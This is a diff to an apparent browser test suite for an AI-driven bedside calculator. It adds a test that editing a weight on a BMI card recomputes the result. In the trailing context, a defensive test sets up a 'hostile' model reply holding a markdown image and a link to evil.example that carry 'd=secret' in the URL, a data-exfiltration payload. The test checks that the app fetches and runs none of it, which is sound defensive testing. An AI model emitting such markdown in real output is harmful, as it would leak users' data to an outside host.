@@ -144,6 +144,17 @@ def test_a_missing_value_can_be_filled_in_on_its_card(bedside: Bedside) -> None:
     expect(bedside.cards.locator(".value").first).to_contain_text("26.8")
 
 
+def test_a_value_can_be_changed_on_the_card(bedside: Bedside) -> None:
+    bedside.ask("What is the BMI at 82 kg and 1.75 m?")
+    bedside.until_answered()
+    bedside.cards.locator(".change summary").click()
+    bedside.cards.locator(".change").get_by_label("weight").fill("90")
+    bedside.button("Compute again").click()
+    expect(bedside.page.locator(".question")).to_have_count(2)
+    expect(bedside.page.locator(".question").last).to_have_text("weight 90 kgEdit")
+    expect(bedside.cards.locator(".value").first).to_contain_text("29.4")
+
+
 def test_what_the_model_says_fetches_nothing_and_runs_nothing(bedside: Bedside, model: FakeModelServer) -> None:
     hostile = (
         "![](https://evil.example/x?d=secret) [link](https://evil.example/y) "
